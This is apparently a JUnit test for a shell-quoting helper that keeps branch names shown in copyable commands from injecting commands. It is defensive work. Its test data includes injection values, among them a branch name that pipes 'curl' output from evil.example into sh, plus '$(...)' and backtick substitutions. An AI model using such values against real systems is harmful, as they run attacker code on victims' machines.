package dev.pave.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Values pages print into commands meant to be copied stay one harmless shell word, whatever a branch is named. */
class PageFormatsTest {

    @Test
    void aBranchNameIsOneShellWordWhateverItHolds() throws Exception {
        assertEquals("pave/service-sync/web", PageFormats.shellQuoted("pave/service-sync/web"));
        assertEquals("'main;curl${IFS}-s${IFS}evil.example|sh;#'", PageFormats.shellQuoted("main;curl${IFS}-s${IFS}evil.example|sh;#"));
        assertEquals("'-x'", PageFormats.shellQuoted("-x"));
        // and the shell agrees: echo prints each value back unchanged, running nothing
        for (String hostile : List.of("$(touch /tmp/pave-quoted-owned)", "it's", "a b", "`id`", "x'; touch /tmp/pave-quoted-owned; '")) {
            Process p = new ProcessBuilder("sh", "-c", "printf %s " + PageFormats.shellQuoted(hostile)).redirectErrorStream(true).start();
            assertEquals(hostile, new String(p.getInputStream().readAllBytes()));
            p.waitFor();
        }
        assertFalse(Files.exists(Path.of("/tmp/pave-quoted-owned")), "nothing ran");
    }
}
